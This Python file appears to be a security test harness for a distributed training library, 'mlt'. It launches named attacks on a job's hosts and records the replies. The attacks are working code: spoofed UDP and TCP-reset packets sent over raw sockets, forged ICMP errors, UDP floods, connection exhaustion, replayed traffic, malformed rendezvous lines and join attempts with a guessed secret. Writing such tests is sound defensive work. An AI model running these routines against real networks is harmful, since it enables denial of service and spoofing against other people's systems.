"""Attacks of a hostile host on a job: one attack by name, for SECONDS, from the namespace of this process.

    python tools/attacks/attacker.py NAME TARGET.json SECONDS

TARGET.json: ``address`` to attack, ``victim`` (rank 0's address), ``peer`` (rank 1's), ``rendezvous`` (rank 0's port),
``tcp`` and ``udp`` (rank 0's listening ports, as found by a port scan), ``size``, ``job``, and ``recorded`` (the file
of recorder.py). Prints one JSON line: ``tried`` (a count), ``what`` was tried, and ``answers``, the bytes received, as
hex, without repeats. SECONDS limits every loop.
"""

from __future__ import annotations

import contextlib
import json
import os
import random
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import mlt
from mlt import _core
from mlt.job.configuration import JobConfig
from mlt.job.rendezvous import VERSION as RENDEZVOUS_VERSION

# An attack in another version than the job's is dropped before it meets what it aims at.
VERSION = int(_core.PROTOCOL_VERSION)
GUESS = "a guess of a secret, of some length"
MAX_KEPT = 4_096
DATAGRAM = 1_472
ICMP_UNREACHABLE, ICMP_QUENCH, ICMP_REDIRECT, ICMP_TIME_EXCEEDED = 3, 4, 5, 11
FRAGMENTATION_NEEDED = 4
OPEN, HELLO = 1, 6
DATA, ACK = 1, 2
DATA_HEADER = 40


@dataclass
class Attack:
    """One attack in progress: its target, its end, and the received replies."""

    target: dict[str, Any]
    seconds: float
    tried: int = 0
    answers: set[bytes] = field(default_factory=set)
    random: random.Random = field(default_factory=lambda: random.Random(1))

    def __post_init__(self) -> None:
        self.until = time.monotonic() + self.seconds

    def turns(self, pause: float = 0.0) -> Iterator[int]:
        """Counts up until the time is over."""
        while time.monotonic() < self.until:
            yield self.tried
            self.tried += 1
            if pause:
                time.sleep(pause)

    def keep(self, data: bytes) -> None:
        if data and len(self.answers) < 256:
            self.answers.add(data[:MAX_KEPT])

    def recorded_streams(self) -> list[bytes]:
        """The bytes of each recorded TCP connection."""
        return [bytes.fromhex(one["data"]) for one in json.loads(Path(self.target["recorded"]).read_text())["streams"]]

    def recorded_datagrams(self) -> list[tuple[tuple[str, int], int, bytes]]:
        """(source, port, payload) of each recorded datagram to the victim."""
        recorded = json.loads(Path(self.target["recorded"]).read_text())["datagrams"]
        return [
            ((one["from"][0], one["from"][1]), one["to"][1], bytes.fromhex(one["data"])[:DATAGRAM])
            for one in recorded
            if one["to"][0] == self.target["victim"]
        ]

    def connect(self, port: int) -> socket.socket | None:
        try:
            connection = socket.create_connection((self.target["address"], port), 1.0)
        except OSError:
            return None
        connection.settimeout(0.3)
        return connection

    def say(self, port: int, data: bytes) -> None:
        """Connect, send ``data``, and keep the reply."""
        connection = self.connect(port)
        if connection is None:
            return
        with connection, contextlib.suppress(OSError):
            connection.sendall(data)
            while answer := connection.recv(MAX_KEPT):
                self.keep(answer)


def checksum(data: bytes) -> int:
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def ip_header(source: str, target: str, protocol: int, length: int) -> bytes:
    ends = socket.inet_aton(source) + socket.inet_aton(target)
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + length, 1, 0x4000, 64, protocol, 0) + ends
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:]


def raw() -> socket.socket:
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    return sock


def udp_packet(source: tuple[str, int], target: tuple[str, int], data: bytes) -> bytes:
    body = struct.pack("!HHHH", source[1], target[1], 8 + len(data), 0) + data
    return ip_header(source[0], target[0], socket.IPPROTO_UDP, len(body)) + body


# Joining


def frame(kind: int, payload: bytes) -> bytes:
    """A frame of the control connection (PROTOCOL 3.1)."""
    return struct.pack("<IBBBB", len(payload), kind, 0, 0, 0) + payload


def opening(nonce: bytes, version: int = VERSION) -> bytes:
    """The first frame of a connecting side (PROTOCOL 3.8)."""
    return frame(OPEN, b"MLT1" + struct.pack("<HH", version, 0) + nonce)


def hello(job: int, world: int, expected: int, rank: int, version: int = VERSION) -> bytes:
    """The payload of a hello (PROTOCOL 3.2), without a proof."""
    head = b"MLT1" + struct.pack("<HHHHHH", version, rank, expected, world, 1, 1)
    body = struct.pack("<QQQ", job, 7, rank) + struct.pack("<IIII", 1432, 1 << 20, 1, 1)
    return head + body + bytes(16) + struct.pack("<HH", 9, 0)


def ask_rendezvous(attack: Attack) -> None:
    """Announce itself as a rank without an opening, and with one whose proof is made up or is rank 0's own."""
    port = attack.target["rendezvous"]
    for turn in attack.turns(0.01):
        size = attack.target["size"] if turn % 2 else 9_999
        line = {"mlt_rendezvous": 1, "job": "?", "rank": 1, "size": size, "services": 0, "host": "192.0.2.1", "port": 1}
        if turn % 3 == 0:
            attack.say(port, json.dumps(line).encode() + b"\n")
            continue
        connection = attack.connect(port)
        if connection is None:
            continue
        with connection, contextlib.suppress(OSError, ValueError):
            connection.sendall(json.dumps({"mlt_rendezvous": RENDEZVOUS_VERSION, "nonce": "11" * 32}).encode() + b"\n")
            answer = connection.recv(MAX_KEPT)
            attack.keep(answer)
            proof = json.loads(answer)["proof"] if turn % 3 == 1 else "00" * 32
            connection.sendall(json.dumps({"content": json.dumps(line), "proof": proof}).encode() + b"\n")
            attack.keep(connection.recv(MAX_KEPT))


def ask_control(attack: Attack) -> None:
    """Hellos at every listening port: of version 3, without an opening, with a made-up proof, and with the listening
    side's own proof sent back."""
    for turn in attack.turns(0.01):
        port = attack.target["tcp"][turn // 4 % len(attack.target["tcp"])]
        if turn % 4 == 0:
            attack.say(port, frame(OPEN, hello(0, 2, 0, 1, version=3)))  # there a hello was type 1
            continue
        one = hello(0, 2 + turn % 3, turn % 3, 1)
        if turn % 4 == 1:
            attack.say(port, frame(HELLO, one + bytes(32)))
            continue
        connection = attack.connect(port)
        if connection is None:
            continue
        with connection, contextlib.suppress(OSError):
            connection.sendall(opening(attack.random.randbytes(32)))
            answer = connection.recv(MAX_KEPT)
            attack.keep(answer)
            proof = answer[-32:] if turn % 4 == 2 else bytes(32)
            connection.sendall(frame(HELLO, one + proof))
            while more := connection.recv(MAX_KEPT):
                attack.keep(more)


def join_with_a_guess(attack: Attack) -> None:
    """mlt's own client with a wrong secret, knowing addresses, job name and size: at the rendezvous while the job
    forms, at the control ports of a running job."""
    target = attack.target
    os.environ["MLT_JOB_SECRET"] = GUESS
    forming = target["rendezvous"] in target["tcp"]
    for turn in attack.turns(0.05):
        try:
            if not forming:
                join_at_control(target, target["tcp"][turn % len(target["tcp"])])
                attack.keep(b"JOINED")
                continue
            with mlt.Context(
                rank=1,
                world_size=target["size"],
                master_addr=target["address"],
                rendezvous_port=target["rendezvous"],
                job=target["job"],
                connect_timeout=1.0,
            ):
                attack.keep(b"JOINED")
        except (mlt.MltError, RuntimeError) as error:
            attack.keep(str(error).replace(target["job"], "(own job name)").encode())


def join_at_control(target: dict[str, Any], port: int) -> None:
    """Connect as rank 1 to rank 0's control port; raises unless that succeeds."""
    config = JobConfig.resolve(
        rank=1, world_size=target["size"], job=target["job"], master_addr=target["address"], rendezvous_port=1
    )
    options = _core.Options()
    options.rank, options.ranks, options.job = 1, target["size"], config.job_id
    options.host, options.secret = own_address(target["address"]), GUESS.encode()
    engine = _core.Engine(options)
    try:
        engine.connect([(0, target["address"], port)], 1_000_000_000)
    finally:
        engine.close()


def replay_streams(attack: Attack) -> None:
    """The bytes of the real ranks' connections, recorded at the start, sent again to every listening port."""
    streams = attack.recorded_streams()
    ports = attack.target["tcp"]
    for turn in attack.turns(0.005):
        attack.say(ports[turn % len(ports)], streams[turn // len(ports) % len(streams)])


# Datagrams


def replay_datagrams(attack: Attack) -> None:
    """Recorded datagrams, sent again with their own source address and port."""
    address = attack.target["address"]
    packets = [udp_packet(source, (address, port), data) for source, port, data in attack.recorded_datagrams()]
    with raw() as sock:
        for turn in attack.turns():
            with contextlib.suppress(OSError):
                sock.sendto(packets[turn % len(packets)], (address, 0))


def forge_datagrams(attack: Attack) -> None:
    """Recorded datagrams with one bit of the header changed, or another cookie, from rank 1's address."""
    address, recorded = attack.target["address"], attack.recorded_datagrams()
    with raw() as sock:
        for turn in attack.turns():
            source, port, recording = recorded[turn % len(recorded)]
            data = bytearray(recording)
            if turn % 2:
                at = attack.random.randrange(min(len(data), 40))
                data[at] ^= 1 << attack.random.randrange(8)
            else:
                data[8:16] = attack.random.randbytes(8)
            with contextlib.suppress(OSError):
                sock.sendto(udp_packet(source, (address, port), bytes(data)), (address, 0))


def flood(size: int) -> Callable[[Attack], None]:
    def run(attack: Attack) -> None:
        ports = attack.target["udp"]
        datagrams = [bytes([0x41, 0x00, 0x07]) + bytes(size - 3)]
        for kind in (DATA, ACK) if size >= DATA_HEADER else (ACK,):
            # In rank 1's name (PROTOCOL 3.2.5); the other 48 bits of its cookie are secret.
            cookie = struct.pack("<H", 1) + attack.random.randbytes(6)
            datagrams.append(bytes([VERSION % 16 << 4 | kind, 0, 0, 0]) + bytes(4) + cookie + bytes(size - 16))
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            for turn in attack.turns():
                with contextlib.suppress(OSError):
                    data = datagrams[turn // len(ports) % len(datagrams)]
                    sock.sendto(data, (attack.target["address"], ports[turn % len(ports)]))

    run.__doc__ = (
        f"Datagrams of {size} bytes as fast as one core sends them: garbage, and the job's version and format "
        "with a wrong cookie."
    )
    return run


# Connections


def hold(attack: Attack) -> None:
    """Idle connections, up to 4,000 at a time, to every listening port."""
    held: list[socket.socket] = []
    ports = attack.target["tcp"]
    for turn in attack.turns(0.0002):
        if len(held) >= 4_000:
            held.pop(0).close()
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setblocking(False)
        sock.connect_ex((attack.target["address"], ports[turn % len(ports)]))
        held.append(sock)
    for sock in held:
        sock.close()


def churn(attack: Attack) -> None:
    """Connect and reset, as fast as one core does."""
    linger = struct.pack("ii", 1, 0)
    ports = attack.target["tcp"]
    for turn in attack.turns():
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock, contextlib.suppress(OSError):
            sock.settimeout(0.5)
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, linger)
            sock.connect((attack.target["address"], ports[turn % len(ports)]))


def pour(attack: Attack) -> None:
    """Two connections at a time, one of another version and one with a wrong proof, that then pour garbage for as long
    as it is taken."""
    garbage = bytes(65_536)
    ports = attack.target["tcp"]
    open_ones: list[socket.socket | None] = [None, None]
    for turn in attack.turns():
        at = turn % 2
        connection = open_ones[at]
        if connection is None:
            connection = open_ones[at] = attack.connect(ports[turn % len(ports)])
            if connection is None:
                continue
            connection.setblocking(False)
            with contextlib.suppress(OSError):
                connection.send(opening(bytes(32), VERSION - at) + frame(HELLO, hello(9, 2, 0, 1) + bytes(32)))
        try:
            connection.send(garbage)
        except BlockingIOError:
            time.sleep(0.0002)
        except OSError:
            connection.close()
            open_ones[at] = None
    for left in open_ones:
        if left is not None:
            left.close()


# At the start of a job


LINES = (
    b'{"mlt_rendezvous":1,"rank":1e999,"job":"x","size":2,"services":0,"host":"a","port":1}\n',
    b"[" * 4_000 + b"\n",
    b'{"a":' * 800 + b"\n",
    b"\xff\xfe\x00\n",
    b"null\n",
    b'{"mlt_rendezvous":' + b"9" * 4_000 + b"}\n",
    b'{"mlt_rendezvous":%d,"nonce":"' % RENDEZVOUS_VERSION + b"1" * 64 + b'"}\n{"content":"x","proof":1e999}\n',
    b"x" * 1_000_000,
)


def bad_lines(attack: Attack) -> None:
    """Lines that are no announcement: infinite, nested, without end, not text."""
    for turn in attack.turns(0.01):
        attack.say(attack.target["rendezvous"], LINES[turn % len(LINES)])


# ICMP


def icmp(kind: int, code: int, rest: bytes, quoted: bytes) -> bytes:
    body = struct.pack("!BBH", kind, code, 0) + rest + quoted
    return body[:2] + struct.pack("!H", checksum(body)) + body[4:]


def icmp_errors(attack: Attack) -> None:
    """Forged ICMP errors about the job's own packets: fragmentation needed (MTU 600 and 68), unreachable of every kind,
    source quench, redirect to the attacker, time exceeded; with and without the right ports."""
    victim, peer = attack.target["address"], attack.target["peer"]
    ports = [0, *attack.target["udp"], *attack.target["tcp"]]
    own = own_address(victim)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sock:
        for turn in attack.turns(0.001):
            port = ports[turn % len(ports)]
            protocol = socket.IPPROTO_TCP if port in attack.target["tcp"] else socket.IPPROTO_UDP
            if port == 0:  # quotes an echo, which every host accepts as its own
                echo = struct.pack("!BBHHH", 8, 0, 0, 1, 1)
                quoted = ip_header(victim, peer, socket.IPPROTO_ICMP, 1_480) + echo
            else:
                quoted = ip_header(victim, peer, protocol, 1_480) + struct.pack("!HHHH", port, port, 1_480, 0)
            messages = [
                icmp(ICMP_UNREACHABLE, FRAGMENTATION_NEEDED, struct.pack("!HH", 0, mtu), quoted) for mtu in (600, 68)
            ]
            codes = [code for code in range(16) if code != FRAGMENTATION_NEEDED]
            messages += [icmp(ICMP_UNREACHABLE, code, bytes(4), quoted) for code in codes]
            messages += [
                icmp(ICMP_QUENCH, 0, bytes(4), quoted),
                icmp(ICMP_REDIRECT, 1, socket.inet_aton(own), quoted),
                icmp(ICMP_TIME_EXCEEDED, 0, bytes(4), quoted),
            ]
            for message in messages:
                with contextlib.suppress(OSError):
                    sock.sendto(message, (victim, 0))


def own_address(towards: str) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.connect((towards, 9))
        return str(sock.getsockname()[0])


def resets(attack: Attack) -> None:
    """TCP resets from rank 1's address with guessed sequence numbers."""
    victim, peer = attack.target["address"], attack.target["peer"]
    with raw() as sock:
        for turn in attack.turns():
            port = attack.target["tcp"][turn % len(attack.target["tcp"])]
            source, sequence = attack.random.randrange(1_024, 65_536), attack.random.getrandbits(32)
            head = struct.pack("!HHIIBBHHH", source, port, sequence, 0, 5 << 4, 4, 0, 0, 0)
            pseudo = socket.inet_aton(peer) + socket.inet_aton(victim) + struct.pack("!BBH", 0, 6, len(head))
            head = head[:16] + struct.pack("!H", checksum(pseudo + head)) + head[18:]
            with contextlib.suppress(OSError):
                sock.sendto(ip_header(peer, victim, socket.IPPROTO_TCP, len(head)) + head, (victim, 0))


ATTACKS: dict[str, Callable[[Attack], None]] = {
    "ask-rendezvous": ask_rendezvous,
    "ask-control": ask_control,
    "join-with-a-guess": join_with_a_guess,
    "replay-streams": replay_streams,
    "replay-datagrams": replay_datagrams,
    "forge-datagrams": forge_datagrams,
    "flood-1472": flood(1_472),
    "flood-16": flood(16),
    "hold": hold,
    "churn": churn,
    "pour": pour,
    "bad-lines": bad_lines,
    "icmp": icmp_errors,
    "resets": resets,
}


def main() -> None:
    name, target, seconds = sys.argv[1], json.loads(Path(sys.argv[2]).read_text()), float(sys.argv[3])
    attack = Attack(target, seconds)
    ATTACKS[name](attack)
    what = " ".join((ATTACKS[name].__doc__ or "").split())
    print(json.dumps({"tried": attack.tried, "what": what, "answers": sorted(one.hex() for one in attack.answers)}))


if __name__ == "__main__":
    main()
